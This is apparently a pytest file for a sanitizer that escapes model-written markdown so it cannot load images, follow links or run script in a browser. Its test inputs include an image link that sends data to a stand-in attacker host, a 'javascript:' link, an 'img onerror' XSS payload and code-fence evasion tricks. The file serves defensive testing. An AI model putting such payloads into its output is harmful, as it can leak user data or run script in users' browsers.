"""What a model writes can neither load, link nor run anything in the browser."""

import pytest

from ui.text import harmless_markdown, literal


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/?d=1)", r"!\[x\](`https://evil.example/?d=1)`"),
        ("![x][ref]", r"!\[x\]\[ref\]"),
        ("[click](javascript:alert(1))", r"\[click\](javascript\:alert(1))"),
        ("<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)\>"),
        ("www.evil.example and a@evil.example", "`www.evil.example` and `a@evil.example`"),
        ("cost $5 and $6", r"cost \$5 and \$6"),
        (":red[loud] at 12:30", r"\:red\[loud\] at 12\:30"),
        (":material/home: :wave:", ":\u2060material/home: :\u2060wave:"),
        ("**bold** and\n\n| a | b |\n|:--|--:|", "**bold** and\n\n| a | b |\n|:--|--:|"),
        ("```\n![x](y)\n```", "```\n![x](y)\n```"),
        ("# A\n## B\n### C", "#### A\n#### B\n##### C"),
    ],
)
def test_active_marks_lose_their_meaning(written, shown):
    assert harmless_markdown(written) == shown


@pytest.mark.parametrize(
    "written",
    [
        "```\na\n```\n![x](y)",
        "see ``` ![x](y)",
        "```a`b\n![x](y)",
        "- a\n  ```\nb ![x](y)",
        "````\n```\n````\n![x](y)",
        "> ```\n![x](y)",
    ],
)
def test_what_only_looks_like_code_is_not_spared(written):
    assert r"!\[x\](y)" in harmless_markdown(written)


def test_endless_answers_are_cut():
    assert len(harmless_markdown("a" * 200_000)) == 100_000


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("**bold**_`code`.png", r"\*\*bold\*\*\_\`code\`.png"),
        ("![x](y).png", r"!\[x\](y).png"),
        (":wave:.png", "\\:\u2060wave\\:.png"),
        ("http://10.0.0.1/a", "http\\:\u2060//10.0.0.1/a"),
        ("two\nlines.png", "two lines.png"),
    ],
)
def test_a_name_is_shown_as_it_is(name, shown):
    assert literal(name) == shown
